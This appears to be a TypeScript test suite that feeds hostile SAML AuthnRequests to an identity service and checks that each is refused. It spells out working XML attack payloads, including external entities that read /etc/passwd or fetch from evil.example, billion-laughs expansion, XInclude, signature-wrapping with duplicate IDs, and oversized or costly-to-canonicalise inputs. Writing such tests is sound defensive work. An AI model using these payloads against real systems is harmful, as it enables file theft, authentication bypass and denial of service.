import { authnRequest, base64, deflated, signXml } from '../../../support/saml-signer.ts'
import { append, post, prepend, swap, type Attack, type Genuine } from '../attack.ts'

/** Not the signature but the XML around it: encodings, document types, names, IDs, namespaces, sizes. */

const of = (
  name: string,
  refused: Attack['refused'],
  make: (xml: string, genuine: Genuine) => string | Uint8Array,
): Attack => ({
  name,
  make: (genuine) => post(make(genuine.signed.AuthnRequest, genuine)),
  refused,
})
const notXml = (name: string, make: (xml: string, genuine: Genuine) => string | Uint8Array) =>
  of(name, 'SAML-01-not-a-message', make)
const doctype = (name: string, make: (xml: string, genuine: Genuine) => string) => of(name, 'SAML-02-doctype', make)
const schema = (name: string, content: (genuine: Genuine) => string) =>
  of(name, 'SAML-03-schema', (_, genuine) => signXml(content(genuine), { ...genuine.pair }))

const utf16 = (xml: string) => Buffer.from(xml, 'utf16le')
const declared = (encoding: string) => `<?xml version="1.0" encoding="${encoding}"?>`

const encodings: readonly Attack[] = [
  notXml('UTF-16 with its mark', (xml) => Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(xml)])),
  notXml('UTF-16 without a mark', (xml) => utf16(xml)),
  notXml('UTF-16, big-endian', (xml) => Buffer.concat([Buffer.from([0xfe, 0xff]), utf16(xml).swap16()])),
  notXml('a UTF-8 byte order mark in front', (xml) => `\ufeff${xml}`),
  notXml('a byte order mark in a value', (_, { pair }) =>
    signXml(authnRequest({ acsUrl: '\ufeffhttps://sp.example/' }), pair),
  ),
  notXml('a byte order mark in a value by number', (xml) => swap(xml, 'ReturnPage', '&#xFEFF;ReturnPage')),
  notXml('the same in tens', (xml) => swap(xml, 'ReturnPage', '&#0065279;ReturnPage')),
  notXml('UTF-7 declared', (xml) => declared('UTF-7') + xml),
  notXml('ISO-8859-1 declared', (xml) => declared('ISO-8859-1') + xml),
  notXml('XML 1.1', (xml) => `<?xml version="1.1"?>${xml}`),
  notXml('octets that are no UTF-8', (xml) => Buffer.concat([Buffer.from(xml), Buffer.from([0xc0, 0xaf])])),
  notXml('a zero octet', (xml) => swap(xml, 'ReturnPage', 'Return\0Page')),
  notXml('a control character', (xml) => swap(xml, 'ReturnPage', 'Return\x01Page')),
  notXml('a control character by number', (xml) => swap(xml, 'ReturnPage', 'Return&#1;Page')),
  notXml('half a surrogate pair by number', (xml) => swap(xml, 'ReturnPage', 'Return&#xD800;Page')),
  notXml('two roots', (xml) => xml + xml),
  notXml('text behind the root', (xml) => `${xml}x`),
  notXml('an end that is missing', (xml) => xml.slice(0, -5)),
  notXml('a tag that never ends', () => `<a ${'b '.repeat(100)}`),
  notXml('an attribute twice', (xml) => swap(xml, ' Version=', ' Version="2.0" Version=')),
  notXml('an x at the very end', () => '<x'),
  notXml('the beginning of a declaration at the very end', () => '<a xmln'),
  notXml('nothing but spaces', () => ' \n'),
  { name: 'an empty field', make: () => ({ post: '' }), refused: 'SAML-01-not-a-message' },
  { name: 'no base64', make: () => ({ post: '<saml2p:AuthnRequest/>' }), refused: 'SAML-01-not-a-message' },
  { name: 'base64url', make: () => ({ post: `${base64('<a>')}-_-_` }), refused: 'SAML-01-not-a-message' },
]

const types: readonly Attack[] = [
  doctype('a DOCTYPE', (xml) => `<!DOCTYPE x>${xml}`),
  doctype('an external DTD', (xml) => `<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">${xml}`),
  doctype(
    'an external entity',
    (xml) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${swap(xml, 'ReturnPage', '&e;')}`,
  ),
  doctype('a parameter entity', (xml) => `<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x"> %e;]>${xml}`),
  doctype('entities that grow (billion laughs)', (xml) => {
    const entities = Array.from({ length: 20 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('')
    return `<!DOCTYPE x [<!ENTITY e0 "ha">${entities}]>${swap(xml, 'ReturnPage', '&e20;')}`
  }),
  doctype('an entity that nobody declared', (xml) => swap(xml, 'ReturnPage', '&evil;')),
  doctype('an ampersand alone', (xml) => swap(xml, 'ReturnPage', 'a & b')),
  doctype('attribute types and defaults in a DTD', (xml) => `<!DOCTYPE x [<!ATTLIST a ID ID #IMPLIED>]>${xml}`),
  doctype('CDATA', (xml) =>
    swap(xml, '>http://eidas.europa.eu/LoA/low<', '><![CDATA[http://eidas.europa.eu/LoA/low]]><'),
  ),
  doctype('a comment', (xml) => prepend(xml, '<!-- -->')),
  doctype('a comment that cuts a value in two', (xml) => swap(xml, 'LoA/low', 'LoA/<!-- -->low')),
  doctype('a comment behind the root', (xml) => `${xml}<!-- -->`),
  doctype('a processing instruction', (xml) => prepend(xml, '<?x y?>')),
  doctype('a stylesheet', (xml) => `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${xml}`),
  doctype('XInclude, truly signed', (_, { pair }) =>
    signXml(
      authnRequest({
        extensions: '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
      }),
      pair,
    ),
  ),
  schema('an external schema', () =>
    authnRequest({
      attributes:
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x https://evil.example/x.xsd"',
    }),
  ),
]

const truly = (xml: string, { pair }: Genuine) => signXml(xml, pair)

const names: readonly Attack[] = [
  notXml('an undeclared prefix', (xml) => append(xml, '<eidas9:x/>')),
  notXml('the undeclared prefix of the client that excludes Móvil', (xml) =>
    swap(xml, '<eidas:RequestedAttribute ', '<eidas-old:RequestedAttribute Name="x"/><eidas:RequestedAttribute '),
  ),
  notXml('an undeclared prefix on an attribute', (xml) => swap(xml, ' Version=', ' x:y="" Version=')),
  notXml('a relative namespace, which voids the canonicalisation', (xml) => append(xml, '<x xmlns="relative/x"/>')),
  notXml('a relative namespace at the root', (xml) => swap(xml, ' Version=', ' xmlns:x="./x" Version=')),
  notXml('a relative namespace and the digest of nothing', (xml) =>
    swap(
      swap(xml, ' Version=', ' xmlns:x="x" Version='),
      /(?<=<ds:DigestValue>)[^<]+/,
      'z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==',
    ),
  ),
  notXml('an empty namespace for a prefix', (xml) => append(xml, '<x:y xmlns:x=""/>')),
  notXml('another namespace for xml', (xml) => append(xml, '<x xmlns:xml="urn:x"/>')),
  notXml('xml:id, truly signed', (_, genuine) =>
    truly(authnRequest({ extensions: '<x:y xmlns:x="urn:x" xml:id="_r2"/>' }), genuine),
  ),
  notXml('xml:base, truly signed', (_, genuine) =>
    truly(authnRequest({ extensions: '<x:y xmlns:x="urn:x" xml:base="https://evil.example/"/>' }), genuine),
  ),
  of('an ID twice, truly signed', 'SAML-04-signature', (_, genuine) =>
    truly(authnRequest({ extensions: '<x:y xmlns:x="urn:x" ID="_r1"/>' }), genuine),
  ),
  ...['Id', 'id', 'x:ID', 'x:Id', 'x:id'].map((name) =>
    of(`an ID twice, once as ${name}, truly signed`, 'SAML-04-signature', (_, genuine) =>
      truly(authnRequest({ extensions: `<x:y xmlns:x="urn:x" ${name}="_r1"/>` }), genuine),
    ),
  ),
  of("an ID of the Signature that is the message's", 'SAML-04-signature', (xml) =>
    swap(xml, '<ds:Signature ', '<ds:Signature Id="_r1" '),
  ),
  of('only a prefixed ID at the root', 'SAML-04-signature', (xml) =>
    swap(xml, ' ID="_r1"', ' xmlns:x="urn:x" x:ID="_r1"'),
  ),
  of('no ID', 'SAML-04-signature', (xml) => swap(xml, ' ID="_r1"', '')),
]

const shapes: readonly Attack[] = [
  schema('a second message in Extensions', ({ bare }) =>
    authnRequest({ extensions: swap(bare.AuthnRequest, '"_r1"', '"_r2"') }),
  ),
  schema('a second message behind the last element', ({ bare }) =>
    authnRequest({ last: swap(bare.AuthnRequest, '"_r1"', '"_r2"') }),
  ),
  schema('a second NameIDPolicy', () => authnRequest({ last: '<saml2p:NameIDPolicy/>' })),
  schema('a second RequestedAuthnContext', () =>
    authnRequest({
      last: '<saml2p:RequestedAuthnContext><saml2:AuthnContextClassRef>http://eidas.europa.eu/LoA/high</saml2:AuthnContextClassRef></saml2p:RequestedAuthnContext>',
    }),
  ),
  schema('two SPType', () => authnRequest({ extensions: '<eidas:SPType>private</eidas:SPType>', spType: 'public' })),
  schema('an element without a namespace in Extensions', () => authnRequest({ extensions: '<x/>' })),
  schema('an element in the text of another', () =>
    authnRequest({ last: '<saml2p:RequesterID><x/></saml2p:RequesterID>' }),
  ),
  schema('text between the elements', () => authnRequest({ last: 'text' })),
  schema('an attribute that nobody knows', () => authnRequest({ attributes: ' Evil="1"' })),
  schema('a prefixed attribute beside the plain one', () =>
    authnRequest({ attributes: ' xmlns:x="urn:x" x:AssertionConsumerServiceURL="https://evil.example"' }),
  ),
  schema('another version', () => swap(authnRequest(), 'Version="2.0"', 'Version="1.1"')),
  schema('an ID that is no name', () => authnRequest({ id: '_r1:x' })),
  schema('an ID of 300 letters', () => authnRequest({ id: `_${'r'.repeat(300)}` })),
  schema('an instant that is none', () => authnRequest({ issueInstant: '2026-02-30T00:00:00Z' })),
  schema('a message of another kind', () =>
    swap(
      swap(authnRequest(), '<saml2p:AuthnRequest', '<saml2p:ArtifactResolve'),
      '</saml2p:AuthnRequest',
      '</saml2p:ArtifactResolve',
    ),
  ),
  schema('the right name in another namespace', () =>
    swap(
      authnRequest(),
      'xmlns:saml2p="urn:oasis:names:tc:SAML:2.0:protocol"',
      'xmlns:saml2p="urn:oasis:names:tc:SAML:1.0:protocol"',
    ),
  ),
]

const large = (name: string, make: () => string): readonly Attack[] => [
  { name: `${name}, plain`, make: () => ({ post: base64(make()) }), refused: 'SAML-01-not-a-message' },
  { name: `${name}, deflated`, make: () => ({ post: deflated(make()) }), refused: 'SAML-01-not-a-message' },
]
const elements = (count: number) => `<a xmlns="urn:a">${'<b/>'.repeat(count)}</a>`

const sizes: readonly Attack[] = [
  ...large('10 MB of spaces', () => `<a>${' '.repeat(10_000_000)}</a>`),
  ...large('100,000 elements', () => elements(100_000)),
  ...large('as many elements as fit', () => elements(24_000)),
  ...large(
    'as many attributes as fit',
    () => `<a ${Array.from({ length: 8_000 }, (_, at) => `b${at}=""`).join(' ')}/>`,
  ),
  ...large(
    'as many namespaces as fit',
    () => `<a ${Array.from({ length: 4_000 }, (_, at) => `xmlns:b${at}="urn:b"`).join(' ')}/>`,
  ),
  ...large('elements 10,000 deep', () => '<a>'.repeat(10_000) + '</a>'.repeat(10_000)),
  ...large('elements 100,000 deep', () => '<a>'.repeat(100_000)),
  ...large('a name as long as fits', () => `<${'a'.repeat(90_000)}`),
]

/** Small, yet made so that canonicalising them takes long. */
const declaring = (count: number, from = 0) =>
  Array.from({ length: count }, (_, at) => ` xmlns:n${from + at}="urn:n${from + at}"`).join('')
const using = (count: number) => Array.from({ length: count }, (_, at) => `<n${at}:a/>`).join('')
const nested = (depth: number, each: number) =>
  Array.from({ length: depth }, (_, at) => `<n${at * each}:a${declaring(each, at * each)}>`).join('') +
  Array.from({ length: depth }, (_, at) => `</n${(depth - 1 - at) * each}:a>`).join('')

const costly = (name: string, refused: Attack['refused'], inside: string, attributes = ''): readonly Attack[] =>
  (['inclusive', 'exclusive'] as const).map((canonicalization) =>
    of(`costly to canonicalise, ${canonicalization}: ${name}`, refused, (_, { bare, pair }) => {
      const signed = signXml(bare.AuthnRequest, { ...pair, canonicalization })
      return signed.replace(' Version=', `${attributes}$&`).replace('<saml2p:Extensions>', `$&${inside}`)
    }),
  )

const costs: readonly Attack[] = [
  ...costly('900 namespaces, each used', 'SAML-01-not-a-message', using(900), declaring(900)),
  ...costly('1,800 namespaces', 'SAML-01-not-a-message', '', declaring(1_800)),
  ...costly('60 namespaces more at each depth', 'SAML-01-not-a-message', nested(26, 60)),
  ...costly('as many namespaces as are read, and elements', 'SAML-04-signature', using(26).repeat(34), declaring(26)),
  ...costly(
    'a namespace for each element',
    'SAML-04-signature',
    Array.from({ length: 400 }, (_, at) => `<x:a xmlns:x="urn:${at}"/>`).join(''),
  ),
  ...costly(
    'one element of 800 attributes',
    'SAML-04-signature',
    `<x:a xmlns:x="urn:x"${Array.from({ length: 800 }, (_, at) => ` b${at}=""`).join('')}/>`,
  ),
  ...costly(
    'a long namespace, used everywhere',
    'SAML-04-signature',
    '<z:a/>'.repeat(400),
    ` xmlns:z="urn:${'a'.repeat(90_000)}"`,
  ),
  ...costly('references to characters', 'SAML-04-signature', `<x:a xmlns:x="urn:x">${'&#13;'.repeat(18_000)}</x:a>`),
]

export const cases: readonly Attack[] = [...encodings, ...types, ...names, ...shapes, ...sizes, ...costs]
